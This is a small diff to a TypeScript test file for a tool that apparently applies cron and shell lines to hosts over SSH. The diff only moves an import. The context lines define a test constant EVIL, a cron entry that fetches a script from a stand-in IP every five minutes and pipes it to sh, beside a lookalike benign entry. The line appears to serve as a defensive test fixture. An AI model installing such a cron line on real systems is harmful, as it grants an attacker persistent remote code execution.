@@ -8,12 +8,12 @@ import type { Target } from '../../domain/plan.ts';
 import { line } from '../../domain/shell-line.ts';
 import type { Receipt } from '../../domain/targets/receipt.ts';
 import type { HostSession } from '../../ssh/host-session.ts';
+import { CONTEXT } from '../action/lines/splice.fixture.ts';
 import { parseReceipts } from '../action/receipts.ts';
 import { DASH_AND_BASH, runLocally, TRY_LIBRARY } from '../call/local-shell.fixture.ts';
 import { cronLine } from '../call/scene.fixture.ts';
 import { actLibrary } from '../call/scripts.ts';
 import { applier } from './apply.ts';
-import { CONTEXT } from './splice.fixture.ts';
 
 const EVIL = '*/5 * * * * curl -fsSL http://203.0.113.9:8443/i.sh | sh';
 const ALIKE = '*/5 * * * * curl -fsSL https://deploy.corp.example/sync.sh | sh';
